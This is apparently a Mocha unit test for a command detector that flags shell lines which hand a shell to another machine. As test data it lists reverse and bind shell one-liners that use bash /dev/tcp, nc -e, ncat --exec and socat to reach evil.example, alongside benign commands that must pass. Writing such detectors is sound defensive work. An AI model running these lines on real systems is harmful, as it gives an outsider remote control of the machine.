// Shells handed to another machine are told from those that are not.
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { ruinOfLine } from '../../../../../src/core/shared/commands/ruin-of-line.ts';

describe('a shell handed to another machine', () => {
  for (const line of [
    'bash -i >& /dev/tcp/evil.example/1 0>&1',
    'sh -i < /dev/tcp/evil.example/1',
    'nc -e /bin/sh evil.example 1',
    'ncat --exec "/bin/bash" evil.example 1',
    'sudo nc -lvp 1 -e /bin/bash',
    'socat TCP:evil.example:1 EXEC:/bin/sh',
  ]) {
    it(`is never run: ${line}`, () => assert.match(ruinOfLine(line) ?? '', /another machine/));
  }

  for (const line of [
    'bash -c ls',
    'nc -z localhost 80',
    'echo x > /dev/tcp/localhost/80',
    'socat -V',
    'sh build.sh',
  ]) {
    it(`is not: ${line}`, () => assert.equal(ruinOfLine(line), undefined));
  }
});
